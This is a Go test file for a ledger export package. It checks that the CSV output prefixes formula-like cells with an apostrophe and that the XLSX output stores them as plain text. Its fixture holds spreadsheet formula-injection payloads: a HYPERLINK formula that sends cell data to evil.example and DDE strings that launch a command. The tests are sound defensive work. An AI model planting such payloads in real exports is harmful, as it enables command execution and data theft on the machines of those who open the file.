package render

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"
)

// dangerous is a ledger row whose texts a spreadsheet would run as
// formulas if written raw (OWASP CSV injection).
func dangerous() []ExportRow {
	rows := exportFixture()[:1]
	rows[0].ProblemTitle = `=HYPERLINK("http://evil.example/?"&A1,"点击查看")`
	rows[0].Progress = `=cmd|' /C calc'!A0`
	rows[0].Detail = "@SUM(1+1)*cmd|' /C calc'!A0"
	rows[0].Officer = "+王芳"
	rows[0].Measures = []string{"-1+1", "二是开展专题研讨。"}
	return rows
}

// TestCSVCellsThatWouldBeFormulasAreInert: every cell that starts like a
// formula is written with a leading apostrophe, and nothing else changes.
func TestCSVCellsThatWouldBeFormulasAreInert(t *testing.T) {
	rows := dangerous()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := recs[1]
	want := ExportRowCells(rows[0])
	for i, c := range want {
		switch c[0] {
		case '=', '+', '-', '@', '\t', '\r':
			if got[i] != "'"+c {
				t.Errorf("%s: %q, want %q", Columns[i], got[i], "'"+c)
			}
		default:
			if got[i] != c {
				t.Errorf("%s: %q changed to %q", Columns[i], c, got[i])
			}
		}
	}
}

// TestXLSXCellsAreTextNotFormulas: the XLSX export writes such texts as
// text cells; no cell carries a formula.
func TestXLSXCellsAreTextNotFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, "整改台账", dangerous(), XLSXOptions{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(SheetName)
	if err != nil {
		t.Fatal(err)
	}
	for c := range Columns {
		cell, _ := excelize.CoordinatesToCellName(c+1, FirstDataRow)
		if formula, err := f.GetCellFormula(SheetName, cell); err != nil || formula != "" {
			t.Errorf("%s (%s) holds the formula %q (%v)", cell, Columns[c], formula, err)
		}
	}
	if rows[FirstDataRow-1][3] != dangerous()[0].ProblemTitle {
		t.Errorf("the title reads %q, want the text as written", rows[FirstDataRow-1][3])
	}
}
